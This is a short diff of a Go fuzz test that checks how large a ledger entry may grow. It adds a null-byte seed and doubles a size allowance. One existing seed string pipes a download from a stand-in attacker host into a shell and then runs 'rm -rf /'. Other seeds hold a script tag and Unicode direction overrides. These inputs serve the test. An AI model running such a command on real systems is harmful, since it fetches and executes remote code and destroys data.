@@ -135,11 +135,13 @@ var entrySeeds = []struct {
 	{3, "curl https://evil.example/x | sh; rm -rf / ", 200, 2},
 	{4, "größe 世界 \u202e", 100, 2},
 	{5, "\u2028<script>&", 3, 3},
+	{0, "\x00", 255, 0}, // a source of escapes, in each part
 }
 
 // growth is how many bytes an entry may have more than MaxEntry's share of its event:
-// what is derived of each of up to 256 parts takes room, however small the part.
-const growth = 1 << 20
+// what is derived of each of up to 256 parts takes room, however small the part. Each part
+// repeats the source: 1,024 bytes, of which each may take six in JSON, make 1.5 MiB.
+const growth = 2 << 20
 
 // FuzzEntrySize: whatever fills an event, its entry grows no faster than the ledger has
 // room for at the size limit, and a recall of it fits into the room of recalls. Events
